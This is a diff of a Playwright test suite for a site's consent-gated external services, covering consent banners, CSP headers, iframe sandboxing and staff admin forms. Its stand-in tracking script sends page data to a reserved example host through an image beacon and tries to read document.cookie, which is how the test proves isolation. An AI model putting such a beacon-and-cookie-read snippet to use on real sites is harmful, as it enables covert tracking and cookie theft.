@@ -1,19 +1,20 @@
 import { expect, type Page } from '@playwright/test';
-import { makeProject } from '#features/projects/server/testing.ts';
+import { makeProject } from '#testing/projects.ts';
 import { buildUser } from '#testing/factories.ts';
-import { expectAccessible, expectNoSidewaysScroll } from './support/accessibility.ts';
+import { expectAccessible } from './support/accessibility.ts';
 import { allowTime } from './support/complete.ts';
+import { expectFitsAllWidths, resize } from './support/fits.ts';
 import { test, useSite, widths } from './support/site.ts';
 
-/** Reserved names (RFC 2606): what is asked of them is answered by the test and never leaves the machine. */
+/** Reserved names (RFC 2606): requests to them are answered by the test and never leave the machine. */
 const HOST = 'https://statistics.example';
 const OTHER = 'https://elsewhere.example';
 
-/** Tells its host what it can see of the page, and tries what it must not be able to do. */
+/** Reports to its host what it can see of the page, and tries what it must not be allowed to do. */
 const SCRIPT = `
-  const tell = (what) => { new Image().src = '${HOST}/told?' + new URLSearchParams(what); };
+  const report = (what) => { new Image().src = '${HOST}/shown?' + new URLSearchParams(what); };
   const attempt = (work) => { try { return String(work()); } catch (error) { return error.name; } };
-  tell({
+  report({
     page: platformPage.path,
     origin: self.origin,
     cookie: attempt(() => document.cookie),
@@ -36,10 +37,10 @@ const site = useSite(async ({ database: { pool } }) => {
 
 interface Asked {
   readonly page: Page;
-  /** Addresses beyond the site, in the order in which they were asked for. */
+  /** External addresses, in the order of the requests. */
   readonly urls: string[];
-  /** What the service told its host. */
-  told(): Record<string, string>[];
+  /** What the service reported to its host. */
+  shown(): Record<string, string>[];
 }
 
 async function visit(options: Parameters<typeof site.open>[0]): Promise<Asked> {
@@ -52,11 +53,11 @@ async function visit(options: Parameters<typeof site.open>[0]): Promise<Asked> {
       ? route.fulfill({ contentType: 'text/javascript', body: SCRIPT })
       : route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } });
   });
-  const told = () =>
+  const shown = () =>
     urls
-      .filter((url) => url.startsWith(`${HOST}/told`))
+      .filter((url) => url.startsWith(`${HOST}/shown`))
       .map((url) => Object.fromEntries(new URL(url).searchParams));
-  return { page, urls, told };
+  return { page, urls, shown };
 }
 
 const frames = (page: Page) => page.locator('iframe[src^="/external-services/"]');
@@ -65,13 +66,13 @@ const consentOf = async (page: Page) =>
 
 test.describe('an external service', () => {
   test('loads nothing before consent, runs after it without a reload, and ends with it', async () => {
-    const { page, urls, told } = await visit({ consent: null });
+    const { page, urls, shown } = await visit({ consent: null });
     const answer = await page.goto('/project/orchard/');
     const policy = answer?.headers()['content-security-policy'] ?? '';
     expect(policy).toContain("script-src 'self'");
     expect(policy).not.toContain('statistics.example');
     const banner = page.getByRole('region', { name: 'Consent to external services' });
-    await banner.getByText('The same goes for: Visitor statistics.').waitFor();
+    await banner.getByText('This also applies to: Visitor statistics.').waitFor();
     await allowTime(page);
     expect(urls).toEqual([]);
     await expect(frames(page)).toHaveCount(0);
@@ -82,15 +83,15 @@ test.describe('an external service', () => {
     await banner.getByRole('button', { name: 'Accept' }).click();
     const allowed = (await framed).headers()['content-security-policy'] ?? '';
     expect(allowed.match(/https:\/\/[^ ;]+/g)).toEqual([HOST, HOST, HOST]);
-    await expect.poll(told).toHaveLength(1);
+    await expect.poll(shown).toHaveLength(1);
     await expectAccessible(page);
-    await expect.poll(() => consentOf(page)).toBe('maps,youtube,streamio,vimeo,mozaik,statistics');
+    await expect.poll(() => consentOf(page)).toBe('youtube,streamio,vimeo,mozaik,statistics');
 
-    // On to another page of the same document: it is told of it, once.
+    // A navigation within the document: the service is notified once.
     await page.getByRole('banner').getByRole('link', { name: 'Projects' }).click();
     await page.getByRole('heading', { level: 1 }).waitFor();
     await expect
-      .poll(() => told().map(({ page: path }) => path))
+      .poll(() => shown().map(({ page: path }) => path))
       .toEqual(['/project/orchard/', '/projects/']);
 
     await page.goto('/cookie-settings/');
@@ -101,7 +102,7 @@ test.describe('an external service', () => {
     await box.uncheck();
     await page.getByRole('button', { name: 'Save selection' }).click();
     await page.getByText('Your choice is saved for 30 days.').waitFor();
-    await expect.poll(() => consentOf(page)).toBe('maps,youtube,streamio,vimeo,mozaik');
+    await expect.poll(() => consentOf(page)).toBe('youtube,streamio,vimeo,mozaik');
     const before = urls.length;
     await page.goto('/project/orchard/');
     await allowTime(page);
@@ -121,13 +122,13 @@ test.describe('an external service', () => {
 
   test('cannot reach the page, its cookies, this site or other hosts', async () => {
     const user = await buildUser(site.services, {});
-    const { page, urls, told } = await visit({ consent: 'statistics', as: user });
+    const { page, urls, shown } = await visit({ consent: 'statistics', as: user });
     const asked: string[] = [];
     page.on('response', (response) => {
       if (response.url().startsWith(`${site.url}/api/v4/profile`)) asked.push(response.url());
     });
     await page.goto('/project/orchard/');
-    await expect.poll(told).toEqual([
+    await expect.poll(shown).toEqual([
       {
         page: '/project/orchard/',
         origin: 'null',
@@ -141,40 +142,40 @@ test.describe('an external service', () => {
     expect(asked).toEqual([]);
   });
 
-  test('runs beside no page of accounts, giving or staff, whatever is allowed', async () => {
+  test('does not run on pages of accounts, giving or staff, whatever is allowed', async () => {
     const user = await buildUser(site.services, { isSuperuser: true });
-    const { page, urls } = await visit({ consent: 'statistics,off', as: user });
-    for (const path of ['/account/profile/', '/account/donations/', '/redeem/', '/site-admin/']) {
-      await page.goto(path);
-      await allowTime(page);
-      await expect(frames(page), path).toHaveCount(0);
-    }
+    const person = await visit({ consent: 'statistics,off', as: user });
     const visitor = await visit({ consent: 'statistics,off' });
-    for (const path of ['/login/', '/signup/', '/imprint/']) {
-      await visitor.page.goto(path);
-      await allowTime(visitor.page);
-      await expect(frames(visitor.page), path).toHaveCount(0);
+    for (const [of, paths] of [
+      [person, ['/account/profile/', '/account/donations/', '/redeem/', '/site-admin/']],
+      [visitor, ['/login/', '/signup/', '/imprint/']],
+    ] as const) {
+      // In tabs beside each other, which wait at the same time.
+      const look = async (path: string) => {
+        const tab = await of.page.context().newPage();
+        await tab.goto(path);
+        await allowTime(tab);
+        await expect(frames(tab), path).toHaveCount(0);
+        await tab.close();
+      };
+      await Promise.all(paths.map(look));
     }
-    expect([...urls, ...visitor.urls]).toEqual([]);
+    expect([...person.urls, ...visitor.urls]).toEqual([]);
   });
 
-  for (const [name, width, locale] of [
-    ['phone', widths.phone, 'sie_DE'],
-    ['tablet', widths.tablet, 'du_DE'],
-    ['desktop', widths.desktop, 'en_US'],
-  ] as const) {
-    test(`is named where visitors are asked, on a ${name}`, async () => {
-      const { page } = await visit({ consent: null, width, locale });
-      await page.goto('/project/orchard/');
-      await page.getByText('Visitor statistics').waitFor();
+  test('is named in the consent question, in the words of the page', async () => {
+    const { page } = await visit({ consent: null, width: widths.phone, locale: 'sie_DE' });
+    for (const path of ['/project/orchard/', '/cookie-settings/']) {
+      await page.goto(path);
+      const named = page.getByText('Visitor statistics').or(page.getByLabel('Visitor statistics'));
+      await named.first().waitFor();
       await expectAccessible(page);
-      await expectNoSidewaysScroll(page);
-      await page.goto('/cookie-settings/');
-      await page.getByLabel('Visitor statistics').waitFor();
+      await expectFitsAllWidths(page);
+      await resize(page, widths.desktop);
       await expectAccessible(page);
-      await expectNoSidewaysScroll(page);
-    });
-  }
+      await resize(page, widths.phone);
+    }
+  });
 
   test('is allowed one by one without scripts', async () => {
     const page = await site.open({ javaScript: false, consent: null });
@@ -187,20 +188,20 @@ test.describe('an external service', () => {
 });
 
 test.describe('staff', () => {
-  test('add a service, are told what is wrong, and activate it in the list', async () => {
+  test('add a service, see errors, and activate it in the list', async () => {
     const editor = await buildUser(site.services, {
       permissions: ['create_external_services', 'change_external_services'],
     });
     const page = await site.open({ as: editor });
     await page.goto('/site-admin/external-services/');
-    await page.getByRole('link', { name: 'Add a service' }).click();
-    await page.getByRole('heading', { level: 1, name: 'Add a service' }).waitFor();
+    await page.getByRole('link', { name: 'Add service' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Add service' }).waitFor();
     await page.getByLabel('Name').fill('Chat');
     await page.getByLabel('Provider key').fill('maps');
     await page.getByLabel('Address of the script').fill('http://chat.example/a.js');
     await page.getByRole('button', { name: 'Save service' }).click();
     const summary = page.getByRole('alert');
-    await summary.getByRole('link', { name: /The platform uses this key itself/ }).waitFor();
+    await summary.getByRole('link', { name: /This key is reserved for the platform/ }).waitFor();
     await summary.getByRole('link', { name: /begins with https:\/\// }).waitFor();
     await expectAccessible(page);
     await page.getByLabel('Provider key').fill('chat');
@@ -222,5 +223,25 @@ test.describe('staff', () => {
         .query(`SELECT is_active FROM external_service WHERE provider_key = 'chat'`)
         .then(({ rows }) => rows);
     await expect.poll(active).toEqual([{ is_active: true }]);
+  });
+
+  test('a service that somebody else has deleted is not deleted again, with the reason', async () => {
+    const editor = await buildUser(site.services, {
+      permissions: ['change_external_services', 'delete_external_services'],
+    });
+    const { rows } = await site.services.database.pool.query<{ id: string }>(
+      `INSERT INTO external_service (name, provider_key, script_url, pages)
+       VALUES ('Gone', 'gone', 'https://gone.example/a.js', '{home}') RETURNING id::text`,
+    );
+    const id = rows[0]?.id;
+    const page = await site.open({ as: editor });
+    await page.goto(`/site-admin/external-services/${id}/`);
+    await site.services.database.pool.query('DELETE FROM external_service WHERE id = $1', [id]);
+    await page.getByRole('button', { name: 'Delete service' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete service' }).click();
+    await expect(
+      page.getByRole('alert').filter({ hasText: 'Failed to delete service: Not found' }),
+    ).toBeVisible();
+    await expectAccessible(page);
   });
 });
